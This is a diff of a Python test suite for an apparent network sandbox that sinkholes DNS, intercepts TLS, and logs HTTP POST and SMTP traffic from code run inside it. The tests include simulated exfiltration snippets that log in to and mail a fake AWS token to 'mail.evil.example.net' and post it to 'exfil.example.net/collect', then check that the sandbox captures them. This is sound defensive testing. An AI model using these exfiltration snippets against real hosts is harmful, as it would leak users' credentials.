@@ -79,7 +79,7 @@ seen["resolver_a"] = udp_query("evil.example.com", "A", sys.argv[2], connect=Fal
 seen["direct_a"] = udp_query("evil.example.com", "A", "8.8.8.8", connect=True)
 seen["aaaa"] = udp_query("evil.example.com", "AAAA", "8.8.8.8", connect=True)
 seen["txt"] = udp_query("txt.example.org", "TXT", "1.1.1.1", connect=True)
-seen["v6_server"] = udp_query("v6dns.example", "A", "2001:4860:4860::8888", connect=True)
+seen["v6_server"] = udp_query("v6dns.example.net", "A", "2001:4860:4860::8888", connect=True)
 tcp_reply = DNSRecord.question("tcp-dns.example.net").send("9.9.9.9", 53, tcp=True, timeout=5)
 seen["tcp_dns"] = [str(rr.rdata) for rr in DNSRecord.parse(tcp_reply).rr]
 # getaddrinfo with AI_ADDRCONFIG only asks DNS when the box looks connected (addresses on lo).
@@ -186,7 +186,7 @@ def test_dns_aaaa_other_types_and_tcp(session: Any) -> None:
     assert seen["txt"] == []  # NODATA
     # A resolver reached over IPv6 answers from the address the client aimed at, too.
     assert ipaddress.ip_address(seen["v6_server"][0]) in SINKHOLE_V4
-    assert _of(records, kind="dns", qname="v6dns.example", server="2001:4860:4860::8888", server_port=53)
+    assert _of(records, kind="dns", qname="v6dns.example.net", server="2001:4860:4860::8888", server_port=53)
     assert _of(records, kind="dns", qname="txt.example.org", qtype="TXT", server="1.1.1.1", answer=[])
     assert ipaddress.ip_address(seen["tcp_dns"][0]) in SINKHOLE_V4
     assert _of(records, kind="dns", qname="tcp-dns.example.net", server="9.9.9.9")
@@ -196,31 +196,41 @@ def test_dns_aaaa_other_types_and_tcp(session: Any) -> None:
 
 
 @needs_root_net
-def test_tls_client_hello_sni_and_hostname_mapping(session: Any) -> None:
+def test_tls_is_intercepted_with_sni_and_hostname_mapping(session: Any) -> None:
     seen, records = session["seen"], session["records"]
-    assert seen["tls_1.2.3.4"] != "handshake?!"
-    # Closed once the ClientHello is complete, so a TLS client does not hang until the idle timeout.
+    # The client does not verify here (CERT_NONE): the handshake completes against a minted leaf.
+    assert seen["tls_1.2.3.4"] == "handshake?!"
     assert seen["tls_seconds_1.2.3.4"] < IDLE_TIMEOUT / 2
     flow = _of(records, kind="tcp", dst="1.2.3.4", dst_port=443)
     assert len(flow) == 1
     assert flow[0]["tls_sni"] == "c2.evil.example" and flow[0]["hostname"] == "c2.evil.example"
-    assert flow[0]["bytes"] > 100 and flow[0]["http"] is None
-    assert base64.b64decode(flow[0]["first_bytes"])[:1] == b"\x16"
+    assert flow[0]["tls"]["intercepted"] is True and flow[0]["tls"]["sni"] == "c2.evil.example"
+    assert flow[0]["tls"]["version"].startswith("TLSv1.")
+    # Nothing was sent inside the tunnel: the plaintext capture is empty.
+    assert flow[0]["bytes"] == 0 and flow[0]["http"] is None and flow[0]["requests"] is None
     sinkholed = _of(records, kind="tcp", dst=seen["direct_a"][0], dst_port=443)
     assert sinkholed and sinkholed[0]["hostname"] == "evil.example.com"
+    assert sinkholed[0]["tls"]["sni"] == "evil.example.com"
 
 
 @needs_root_net
 def test_http_post_logged_with_request_line_and_tokens_found(session: Any) -> None:
     seen, records = session["seen"], session["records"]
     # Answered as soon as the body is in, not after the idle timeout.
-    assert seen["post_raw"][:2] == [200, ""] and seen["post_b64"][:2] == [200, ""]
+    # A POST that is no API call gets what a beacon endpoint answers: 204, no body.
+    assert seen["post_raw"][:2] == [204, ""] and seen["post_b64"][:2] == [204, ""]
     assert seen["post_raw"][2] < IDLE_TIMEOUT / 2
     posts = _of(records, kind="tcp", dst="203.0.113.5", dst_port=8080)
     assert {p["http"]["path"] for p in posts} == {"/collect", "/b64"}
     for p in posts:
         assert p["http"]["method"] == "POST" and p["http"]["host"] == "exfil.example.net"
         assert p["hostname"] == "exfil.example.net"
+        (req,) = p["requests"]
+        assert req["method"] == "POST" and ["Host", "exfil.example.net"] in req["headers"]
+        assert req["body_bytes"] == len(base64.b64decode(req["body"])) > 0 and not req["truncated"]
+        assert p["served"] == [{"status": 204, "kind": "post", "content_type": None, "bytes": 0}]
+    (collect,) = [p for p in posts if p["http"]["path"] == "/collect"]
+    assert base64.b64decode(collect["requests"][0]["body"]) == b"key=" + TOKEN.encode()
     findings = find_tokens(records, {"aws_access_key_id": TOKEN})
     by_flow = {(f["flow"]["dst"], f["encoding"]) for f in findings}
     assert ("203.0.113.5", "raw") in by_flow
@@ -256,6 +266,10 @@ def test_records_follow_network_jsonl_format(session: Any) -> None:
             "http",
             "tls_sni",
             "hostname",
+            "tls",
+            "requests",
+            "served",
+            "truncated",
         },
         "udp": {"t", "phase", "kind", "dst", "dst_port", "bytes", "first_bytes"},
     }
@@ -365,7 +379,7 @@ def test_http_server_waits_for_body_and_answers_100_continue() -> None:
             "print(s.recv(200).split(b'\\r\\n')[0].decode())\n"
         )
         proc = run_inside(net, code)
-        assert proc.stdout.split("\n")[:2] == ["HTTP/1.1 100 Continue", "HTTP/1.1 200 OK"], proc
+        assert proc.stdout.split("\n")[:2] == ["HTTP/1.1 100 Continue", "HTTP/1.1 204 No Content"], proc
         (flow,) = net.records()
         assert flow["bytes"] > 6000 and flow["http"]["method"] == "PUT"
         # first_bytes keeps at most 4096 bytes, so the token past it is not in the record...
@@ -509,7 +523,7 @@ def test_mail_exfiltration_is_captured_by_the_fake_smtp_server() -> None:
         net.set_phase("import")
         code = (
             "import smtplib\n"
-            "with smtplib.SMTP('mail.evil.example', 587, timeout=5) as m:\n"
+            "with smtplib.SMTP('mail.evil.example.net', 587, timeout=5) as m:\n"
             "    m.ehlo()\n"
             f"    m.login('collector', {TOKEN!r})\n"
             f"    m.sendmail('a@x.example', ['b@y.example'], 'Subject: loot\\r\\n\\r\\nkey: {TOKEN}')\n"
@@ -518,7 +532,7 @@ def test_mail_exfiltration_is_captured_by_the_fake_smtp_server() -> None:
         proc = run_inside(net, code)
         assert proc.returncode == 0 and proc.stdout.strip() == "sent", proc.stderr
         (flow,) = _of(net.records(), kind="tcp")
-        assert flow["dst_port"] == 587 and flow["hostname"] == "mail.evil.example"
+        assert flow["dst_port"] == 587 and flow["hostname"] == "mail.evil.example.net"
         conversation = base64.b64decode(flow["first_bytes"])
         lines = conversation.split(b"\r\n")
         assert b"mail FROM:<a@x.example>" in lines and b"Subject: loot" in lines and lines[-2] == b"QUIT"
